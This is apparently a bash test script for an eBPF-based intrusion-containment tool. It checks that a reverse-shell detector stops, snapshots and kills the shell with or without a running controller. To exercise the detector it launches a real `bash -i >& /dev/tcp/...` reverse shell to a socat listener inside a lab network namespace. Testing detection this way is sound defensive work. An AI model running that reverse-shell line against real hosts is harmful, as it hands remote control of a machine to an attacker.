#!/usr/bin/env bash
# SPDX-License-Identifier: GPL-2.0-only
#
# contain-then-kill (issue 14, point 5), with a real reverse shell
# (`bash -i >& /dev/tcp/H/P 0>&1` from the protected host to a socat
# listener on a test host) and the `run` controller:
#
#   - controller running: the shell is stopped and cut off by the kernel
#     at its dup2, the controller snapshots it (exe, cmdline with the
#     /dev/tcp redirection, its socket among its files, maps, ancestry)
#     and kills it (137); nothing reaches the listener; the exit event
#     says "killed by signal 9 (SIGKILL)"; the exported report says it in
#     words and carries the snapshot;
#   - no controller: the kernel kills at once (137, under a second), and
#     the finding, read by the next controller, says why there is no
#     snapshot;
#   - a controller that stops answering (SIGSTOP'd, its heartbeat kept up by
#     the test) after the kernel stopped the shell: the shell stays stopped;
#     resumed by a SIGCONT before the deadline it is stopped again at its
#     next system call, after the deadline killed there; and a controller
#     killed and started again snapshots and kills what its predecessor
#     left stopped.
. "$(dirname "$0")/lib.sh"
. "$(dirname "$0")/detect_lib.sh"

EV=$IRC_TMP/events.jsonl
POL=$IRC_TMP/policy.yaml
DB=$IRCONTAIN_STATE_DIR/ircontain.db
H1=10.77.1.2
need_tools sqlite3

sq() { sqlite3 -batch "$DB" "$1"; }
# evline TEXT FILTER: the event lines holding TEXT that FILTER selects.
evline() { grep -F "$1" "$EV" | jq -cR "fromjson? | select($2)" 2>/dev/null; }
fnd() { evq ".event.action == \"reverse_shell_detected\" and .ircontain.cgroup_id == $(stat -c %i "$IRC_CG/$1")" | head -1; }
has_fnd() { [[ -n $(fnd "$1") ]]; }
fnd_is() { local j; j=$(fnd "$1"); [[ -n $j ]] || { echo "no finding"; return 1; }; jqx "$2" <<<"$j" || { echo "${j:0:1200}"; return 1; }; }
snap() { sq "SELECT json(body) FROM evidence WHERE type = 'snapshot' AND target = 'pid:$1' ORDER BY seq DESC LIMIT 1"; }
has_snap() { [[ -n $(snap "$1") ]]; }
dead() { [[ ! -e /proc/$1 || $(awk '{ print $3 }' "/proc/$1/stat" 2>/dev/null) == Z ]]; }
stopped() { [[ $(awk '{ print $3 }' "/proc/$1/stat" 2>/dev/null) == T ]]; }
pending() { bpftool -j map dump pinned "$IRC_PIN_DIR/irc_pkill" | jq -e "[.[] | select(.formatted.key == $1)] | length == 1"; }
# listen PORT: a one-connection listener on host 1 writing what it gets to $IRC_TMP/PORT.out.
listen() {
	bg ip netns exec "${IRC_NS_PFX}h1" socat -u "TCP4-LISTEN:$1,reuseaddr" "OPEN:$IRC_TMP/$1.out,creat,append"
	wait_for 5 in_h 1 sh -c "ss -Htln sport = :$1 | grep -q ."
}
# shell CGROUP PORT: the reverse shell, in the background; SH = its PID.
shell() {
	mkdir -p "$IRC_CG/$1"
	bash -c 'echo $$ > "$0/cgroup.procs" && exec "$@"' "$IRC_CG/$1" ip netns exec "$IRC_NS_P" \
		bash -c "exec bash -i >& /dev/tcp/$H1/$2 0>&1" </dev/null &
	SH=$!
	# Bounded whatever happens (a shell that is not caught would wait for input).
	bg sh -c "sleep 20; kill -9 $SH 2>/dev/null"
}
start_run() {
	bg nsenter --net="/run/netns/$IRC_NS_P" "$IRC_BIN" run --events-file "$EV" \
		2>>"$IRC_TMP/daemon.err"
	DPID=$!
	wait_for 5 eval '[[ $(jq -r .pid "$IRCONTAIN_STATE_DIR/run.json" 2>/dev/null) == "$DPID" ]]'
}
now_ms() { date +%s%3N; }
# beater: a controller that is alive for the kernel (its heartbeat in
# irc_ctl, every 300 ms, CLOCK_BOOTTIME from /proc/uptime) and does
# nothing else: a hung one, without a race with the real one's last beat.
beater() {
	local ns i b
	while :; do
		read -r up _ </proc/uptime
		ns=$((${up%.*} * 1000000000 + 10#${up#*.} * 10000000))
		b=()
		for ((i = 0; i < 8; i++)); do b+=($(((ns >> (8 * i)) & 255))); done
		bpftool map update pinned "$IRC_PIN_DIR/irc_ctl" key 0 0 0 0 value "${b[@]}" 1 0 0 0 0 0 0 0
		sleep 0.3
	done
}

lab_up 1 || { not_ok "lab up"; exit 1; }
check_rc "load --iface iv1" 0 irc load --iface iv1
cat >"$POL" <<EOF
mode: enforce
detectors:
$(detectors_off_but reverse_shell)
  reverse_shell: {enabled: true, severity: critical, action: contain-then-kill}
EOF
check "run: ready" start_run
check_rc "policy apply: reverse_shell contain-then-kill" 0 irc policy apply "$POL"

# ---- controller running: stop, cut, snapshot, kill -------------------------

listen 7801 || not_ok "listener 7801"
t0=$(now_ms)
shell c_run 7801
wait "$SH" 2>/dev/null; rc=$?
echo "# reverse shell to its death: $(($(now_ms) - t0)) ms (bash start, connect, stop, snapshot, kill)"
check "the reverse shell is killed (137)" eq "$rc" 137
check "finding: contain-then-kill, enforced, no hold" wait_for 10 fnd_is c_run \
	'.ircontain.finding.action == "contain-then-kill" and .ircontain.finding.enforced == true and .ircontain.finding.held == null and (.message | contains("stopped and cut off by the kernel"))'
P=$(fnd c_run | jq -r .process.pid)
check "the controller says it snapshotted and killed pid $P" wait_for 5 \
	grep -q "reverse_shell: pid $P stopped and cut off by the kernel, snapshot taken: killed" "$IRC_TMP/daemon.err"
check "store: a snapshot of pid $P" wait_for 5 has_snap "$P"
snap "$P" >"$IRC_TMP/snap.json"
check "snapshot: exe bash, cmdline with the /dev/tcp redirection" jqx \
	'(.exe | test("/bash$")) and ([.cmdline[] | select(contains("/dev/tcp/'"$H1"'/7801"))] | length == 1) and (.missed == null)' \
	"$IRC_TMP/snap.json"
check "snapshot: its TCP socket to the listener among its files, maps, ancestry" jqx \
	'([.sockets[]? | select(tostring | contains("7801"))] | length >= 1) and (.maps | length > 5) and (.ancestry | length >= 2)' \
	"$IRC_TMP/snap.json"
check "snapshot taken while stopped (state T)" jqx '.state == "T"' "$IRC_TMP/snap.json"
check "nothing of the shell reached the listener" eq "$(wc -c <"$IRC_TMP/7801.out" 2>/dev/null || echo 0)" 0
check "exit event: killed by signal 9 (SIGKILL)" wait_for 5 eval \
	"[[ -n \$(evline '\"exit\"' '.process.pid == $P and (.message | contains(\"was killed by signal 9 (SIGKILL)\"))') ]]"
check "nothing left pending" eval "! pending $P"
ID=$(sq "SELECT incident FROM evidence WHERE type = 'snapshot' AND target = 'pid:$P' ORDER BY seq DESC LIMIT 1")
check "the finding's incident ($ID) is contained" wait_for 5 \
	ircq '.incident.status == "contained"' incident show "$ID"
check_rc "export the incident" 0 irc export "$ID" -o "$IRC_TMP/b.tar.gz"
mkdir -p "$IRC_TMP/x" && tar -xzf "$IRC_TMP/b.tar.gz" -C "$IRC_TMP/x" && mv "$IRC_TMP/x"/ircontain-incident-"$ID" "$IRC_TMP/b"
check "report.html: killed by signal 9 in words" grep -q "killed by signal 9 (SIGKILL)" "$IRC_TMP/b/report.html"
check "report.html: the snapshot taken, of bash" eval "grep -q 'snapshot taken' '$IRC_TMP/b/report.html' && grep -q '/bash' '$IRC_TMP/b/report.html'"
check "artifacts/: the snapshot, its /dev/tcp cmdline and socket" jqx -s \
	'.[0] | ([.cmdline[] | select(contains("/dev/tcp/'"$H1"'/7801"))] | length == 1) and (.sockets | length >= 1)' \
	"$IRC_TMP/b"/artifacts/snapshot-"$P"-*.json

# ---- no controller: killed by the kernel at once -------------------------------

kill -TERM "$DPID"
check "controller stopped" wait_for 10 dead "$DPID"
listen 7802 || not_ok "listener 7802"
t0=$(now_ms)
shell c_none 7802
wait "$SH" 2>/dev/null; rc=$?
ms=$(($(now_ms) - t0))
check "no controller: killed (137)" eq "$rc" 137
check "no controller: within a second ($ms ms, bash start and connect included)" test "$ms" -lt 1000
check "no controller: nothing reached the listener" eq "$(wc -c <"$IRC_TMP/7802.out" 2>/dev/null || echo 0)" 0
check "the next controller starts" start_run
check "its finding: killed at once, held says why no snapshot" wait_for 10 fnd_is c_none \
	'.ircontain.finding.enforced == true and (.ircontain.finding.held | contains("no controller")) and (.message | contains("killed by the kernel at once"))'

# ---- a controller that stops answering ---------------------------------------

listen 7803 || not_ok "listener 7803"
kill -STOP "$DPID"
bg beater
BEATER=$!
sleep 0.5
shell c_hung 7803
check "hung controller (beat still fresh): the shell is stopped by the kernel" wait_for 3 stopped "$SH"
check "  and pending its kill" pending "$SH"
sleep 0.3
kill -CONT "$SH"
check "SIGCONT before the deadline: stopped again at its next system call" wait_for 2 stopped "$SH"
sleep 2.2
kill -CONT "$SH"
check "SIGCONT after the deadline: killed by the kernel, no controller involved" wait_for 3 dead "$SH"
wait "$SH" 2>/dev/null; rc=$?
check "  (137)" eq "$rc" 137
check "nothing reached the listener" eq "$(wc -c <"$IRC_TMP/7803.out" 2>/dev/null || echo 0)" 0

listen 7804 || not_ok "listener 7804"
shell c_gone 7804
check "second shell stopped by the kernel for the hung controller" wait_for 3 stopped "$SH"
kill -KILL "$DPID" "$BEATER"; kill -CONT "$DPID" 2>/dev/null
wait_for 5 dead "$DPID"
bpftool map update pinned "$IRC_PIN_DIR/irc_ctl" key 0 0 0 0 value 0 0 0 0 0 0 0 0 0 0 0 0 0 0 0 0
check "still stopped, pending, with no controller at all" eval "stopped $SH && pending $SH"
check "a new controller starts" start_run
check "it snapshots and kills what was left stopped" wait_for 5 dead "$SH"
wait "$SH" 2>/dev/null; rc=$?
check "  (137)" eq "$rc" 137
check "  with a snapshot of it" wait_for 5 has_snap "$SH"

lab_finish
